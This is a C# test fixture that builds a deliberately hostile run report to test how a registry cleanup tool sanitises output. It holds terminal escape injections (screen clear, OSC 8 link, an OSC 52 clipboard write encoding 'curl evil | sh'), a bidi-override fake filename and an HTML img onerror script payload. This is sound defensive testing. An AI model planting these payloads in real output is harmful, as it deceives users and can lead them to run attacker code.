namespace OciCleanup.Cleaner.Tests.Reporting;

/// <summary>
/// A report whose registry and cluster strings attack what people read: ESC sequences that clear the
/// screen, an OSC 8 link, an OSC 52 clipboard write, a bidi override, and a generic version that is
/// Markdown with a backtick, a link and an image.
/// </summary>
internal static class HostileReport
{
    public const string ClearScreen = "app\u001b[2J\u001b[HFAKE-ALL-GOOD";

    public const string Osc8Link = "\u001b]8;;http://evil.example/\u0007click\u001b]8;;\u0007";

    public const string Osc52Clipboard = "\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007";

    public const string BidiOverride = "invoice\u202Egnp.exe";

    public const string MarkdownVersion = "1.0`[x](http://evil.example/)<img src=x onerror=alert(1)>``";

    public static RunReport Build()
    {
        DecisionEntry D(string type, string package, string version, string action, string kind, ReasonOrigin origin) =>
            new(new VersionRef("main", "oleks", type, package, version, Some.Digest(version).ToString()), Some.Now.AddDays(-30), action, [new ReasonEntry(kind, origin)]);
        return new RunReport(1, "dry-run", Some.Now, Some.Now.AddSeconds(1), [new SourceEntry("registry:main", "failed", null, "HTTP 500: " + Osc52Clipboard, null)],
            [
                D("container", ClearScreen, "1.0" + Osc8Link, "keep", "workload", new ClusterObjectOrigin("armer", "kotkan", "Deployment", BidiOverride, "app")),
                D("generic", "tools", MarkdownVersion, "delete", "retention", new RetentionOrigin("older than 14 days [x](http://evil.example/) <img src=x> www.evil.example")),
            ],
            new Summary(2, 1, 1, 0, 0, true, "registry main failed: " + Osc52Clipboard))
        {
            Warnings = [new ReportWarning(WarningKind.PinUnmatched, "pins.txt:1: " + BidiOverride)],
        };
    }
}
